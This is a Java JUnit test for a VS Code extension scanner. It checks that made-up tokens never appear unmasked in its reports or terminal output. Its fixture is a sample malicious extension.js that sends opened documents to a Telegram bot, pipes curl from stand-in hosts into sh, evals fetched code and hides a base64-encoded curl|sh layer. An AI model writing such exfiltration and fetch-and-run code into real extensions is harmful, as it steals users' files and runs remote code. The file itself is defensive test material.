package dev.vsxray.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vsxray.reports.ReportFormat;
import dev.vsxray.scanner.Scanner;
import dev.vsxray.scanner.locate.Machine;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * An extension ships tokens, and other findings are about the very lines they stand in. No output shows one, nor a piece of
 * one that is longer than what a mask leaves. The tokens are made up and put together here.
 */
final class SecretsStayHiddenTest {

    /** Characters in a row of a token that nobody may see. */
    private static final int PIECE = 10;

    private static final String BODY = "q7Wm2ZkR9sXb4TnV6cYd8LpG3hJf5Q";
    private static final String IN_ADDRESS = "7312345678:" + "AAHqW3zRkT9sXb4TnV6cYd8LpG3hJf5QmZw";
    private static final String IN_COMMAND = "glpat" + "-" + BODY.substring(0, 20);
    private static final String IN_QUERY = "sk-ant-" + "api03-" + (BODY + BODY + BODY).substring(0, 86);
    private static final String IN_LAYER = "xoxb" + "-482913057264-" + BODY.substring(6);
    private static final String IN_FILE = "correct-horse-battery-9";
    private static final List<String> SECRETS = List.of(IN_ADDRESS, IN_COMMAND, IN_QUERY, IN_LAYER, IN_FILE);

    private static final String SCRIPT = """
            const vscode = require("vscode"), https = require("https"), cp = require("child_process");
            exports.activate = () => {
              vscode.workspace.onDidOpenTextDocument((document) => {
                const request = https.request("https://api.telegram.org/bot%s/sendMessage", { method: "POST" });
                request.end(Buffer.from(document.getText()).toString("base64"));
              });
              cp.exec("curl -H 'Authorization: Bearer %s' https://x.invalid/i | sh", { windowsHide: true });
              https.get("https://x.invalid/?key=%s", (answer) => answer.on("data", (part) => eval(String(part))));
              cp.exec("sshpass -p %s ssh ada@x.invalid 'curl https://x.invalid/j | sh'");
              eval(Buffer.from("%s", "base64").toString());
            };
            """;

    @TempDir
    private Path folder;

    @BeforeEach
    void anExtensionWithTokens() throws IOException {
        String layer = "require('child_process').exec('curl https://y.invalid/?t=" + IN_LAYER + " | sh')";
        Path extension = Files.createDirectory(folder.resolve("extension"));
        Files.writeString(extension.resolve("package.json"), """
                {"publisher": "acme", "name": "notes", "version": "1.0.0", "main": "./extension.js",
                 "engines": {"vscode": "^1.90.0"}, "activationEvents": ["*"]}
                """);
        Files.writeString(
                extension.resolve("extension.js"),
                SCRIPT.formatted(
                        IN_ADDRESS,
                        IN_COMMAND,
                        IN_QUERY,
                        IN_FILE,
                        Base64.getEncoder().encodeToString(layer.getBytes(StandardCharsets.UTF_8))));
        Files.writeString(extension.resolve(".env"), "SSH_PASSWORD=" + IN_FILE + "\n");
    }

    @Test
    void inEveryFormat() throws IOException {
        List<String> arguments = new ArrayList<>(List.of("scan", "extension", "--verbose", "--html-folder", "pages"));
        for (ReportFormat format : ReportFormat.values()) {
            arguments.add("--output");
            arguments.add("report" + format.suffixes().get(0).replaceFirst("^(?=gl-)", "/"));
        }
        Files.createDirectory(folder.resolve("report"));
        CommandRun run = run(arguments.toArray(String[]::new));
        assertThat(run.exitCode()).as("findings").isEqualTo(1);
        List<Path> written;
        try (Stream<Path> files = Files.walk(folder)) {
            written = files.filter(Files::isRegularFile)
                    .filter(file -> !file.startsWith(folder.resolve("extension")))
                    .filter(file -> !file.startsWith(folder.resolve("state/past")))
                    .toList();
        }
        assertThat(written).hasSizeGreaterThan(ReportFormat.values().length);
        for (Path file : written) {
            assertHidden(file.toString(), Files.readString(file, StandardCharsets.ISO_8859_1));
        }
        assertHidden("terminal", run.out());
        assertThat(run.out()).contains("glpat-\u2026 (26 characters)");
    }

    @Test
    void inWhatIsShownToThoseWhoLookCloser() {
        assertHidden("features", run("rules", "features", "extension").out());
        assertHidden("strings", run("strings", "extension").out());
        assertHidden("decode", run("decode", "extension").out());
        assertThat(run("strings", "extension", "--raw").out())
                .as("whoever asks for it")
                .contains(IN_LAYER);
    }

    private static void assertHidden(String where, String text) {
        for (String secret : SECRETS) {
            for (int i = 0; i + PIECE <= secret.length(); i++) {
                assertThat(text.contains(secret.substring(i, i + PIECE)))
                        .as("%s shows %s", where, secret.substring(i, i + PIECE))
                        .isFalse();
            }
        }
    }

    private CommandRun run(String... arguments) {
        Clock clock = Clock.fixed(Instant.parse("2026-11-23T02:00:07Z"), ZoneOffset.UTC);
        return CommandRun.in(folder, new Scanner(Machine.current(), "", "test", clock)::scan)
                .with("VSXRAY_STATE", folder.resolve("state").toString())
                .run(arguments);
    }
}
